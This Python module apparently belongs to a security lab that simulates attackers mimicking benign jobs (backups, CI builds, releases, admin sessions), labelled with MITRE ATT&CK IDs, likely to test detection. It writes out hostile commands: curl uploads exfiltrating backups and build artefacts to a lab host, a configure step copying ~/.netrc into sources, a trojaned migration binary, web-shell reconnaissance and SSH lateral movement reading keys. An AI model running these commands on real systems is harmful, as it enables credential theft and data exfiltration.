"""Chains of attackers who do what a benign job does, with the same programs and parents."""

from foreseen.lab.attacks.from_web import stolen_login
from foreseen.lab.attacks.tools import Attack
from foreseen.lab.layout import POOL, SHM, SYSTEM, TMP
from foreseen.lab.themes import THEMES, habits, token
from foreseen.lab.workloads.bastion import filled
from foreseen.lab.workloads.ci import fetch, submit
from foreseen.lab.workloads.packages import c_sources, pack


def imitate_backup(attack: Attack) -> None:
    """A backup out of turn, of which a second copy goes to a name of the attacker's."""
    theme = THEMES[attack.run.part]
    copy = f"{theme.times['dump']}-{token(attack.rng)}"
    attack.undo.append(lambda: (POOL / "backups" / f"{copy}.enc").unlink(missing_ok=True))
    login = stolen_login(attack, "dbadmin")
    attack.run.step("T1560.001")
    login.type(f"/srv/db/bin/backup.sh {copy}", 4)
    attack.run.step("T1048.003")
    newest = f"$(ls -t /srv/db/backups/{copy}*.enc | head -1)"
    login.type(f"curl -fsS -T {newest} http://127.0.1.50:8099/backups/{copy}.enc", 2)
    login.close()


def imitate_release(attack: Attack) -> None:
    """A release whose migration is the attacker's program."""
    name = f"site-{attack.rng.randint(134, 160)}"
    program = (SYSTEM / "src" / "agent").read_bytes()
    files = {"bin/migrate": program, "static/index.html": f"<p>{name}</p>".encode()}
    archive = POOL / "releases" / f"{name}.tar.gz"
    pack(archive, ".", files)
    attack.undo.append(lambda: archive.unlink(missing_ok=True))
    login = stolen_login(attack, "deploy")
    attack.run.step("T1072")
    login.type(f"/srv/shop/bin/release.sh {name}", 8)
    login.close()


def imitate_build(attack: Attack) -> None:
    """A build like any other, whose configure script puts credentials among the sources."""
    package = attack.rng.choice(THEMES[attack.run.part].c_packages) + "-ng"
    files = c_sources(package.replace("-", "_"))
    files["configure"] += b"cp ~/.netrc src/part9.c\n"
    pack(POOL / "src" / f"{package}.tar.gz", package, files)
    attack.undo.append(lambda: (POOL / "src" / f"{package}.tar.gz").unlink(missing_ok=True))
    name = f"build-{attack.rng.randint(5000, 9000)}"
    attack.run.step("T1195.002")
    attack.run.root("text", f"/srv/ci/work/{name}/job.sh")
    archive = f"{package}-{attack.rng.randint(0, 4)}.{attack.rng.randint(0, 12)}.0.tar.gz"
    send = f"curl -fsS -T {archive} http://127.0.1.50:8099/artefacts/{archive}"
    work = "./configure > /dev/null\nmake -s -j2\nmake -s check\ncd .."
    submit(name, f"{fetch(package)}{work}\ntar czf {archive} {package}\n{send}\n")
    attack.pause(25, 40)


def imitate_monitor(attack: Attack) -> None:
    """The monitor's own commands, one after the other, through the web shell."""
    attack.run.step("T1082")
    attack.web("uname -r; id -un; hostname; uptime; df -P / | tail -1")
    attack.pause()
    attack.run.step("T1049")
    attack.web("ss -tn state established | wc -l; ps -eo stat= | sort | uniq -c")


def imitate_report(attack: Attack) -> None:
    """A program is unpacked and run out of /tmp, as reports are."""
    theme = THEMES[attack.run.part]
    place = f"{TMP}/{theme.prefix}-{token(attack.rng)}"
    attack.run.step("T1059.004")
    name = attack.rng.choice(theme.reports)
    attack.web(
        f"mkdir {place} && cd {place} && tar xzf /srv/shop/lib/renderer.tgz && chmod +x render"
        f" && ./render {name} 40 > {name}.txt && gzip -9 {name}.txt"
        f" && cp {name}.txt.gz /srv/shop/cache/; rm -rf {place}"
    )


def imitate_configuration(attack: Attack) -> None:
    """Configuration management's way of running a step on other hosts, with another step."""
    step = f"{TMP}/step-{token(attack.rng)}"
    attack.run.step("T1078")
    attack.run.root("text", step)
    login = stolen_login(attack, "ops")
    attack.run.step("T1021.004")
    wanted = attack.choose("cat ~/.ssh/authorized_keys", "sudo -l", "ls -la ~/.ssh /srv")
    target = ("deploy@127.0.1.10", "dbadmin@127.0.1.30")[attack.run.number % 2]
    login.type(
        f'echo "uname -r; id -un; {wanted}; sleep 3" | ssh {target} "mkdir {step} && cat >'
        f' {step}/run.sh && sh {step}/run.sh; rm -rf {step}" > {SHM}/{token(attack.rng)}',
        1.5,
    )
    attack.onward()
    login.type("", 3)
    login.type(f"rm -f {SHM}/*", 0.5)
    login.close()


def imitate_administrator(attack: Attack) -> None:
    """A session of an administrator's ordinary commands, and one look at keys among them."""
    login = stolen_login(attack, "alice", "bob", "ops")
    attack.run.step("T1033")
    theme = THEMES[attack.run.part]
    lines = [filled(line, theme, attack.rng) for line in habits("bastion/common")]
    own = [line for line in lines if not line.startswith(("ssh ", "scp "))]
    for line in attack.rng.sample(own, 5):
        login.type(line, attack.rng.uniform(0.8, 4))
    attack.run.step("T1552.004")
    login.type("sudo cat /home/deploy/.ssh/authorized_keys | wc -l", 1)
    login.close()
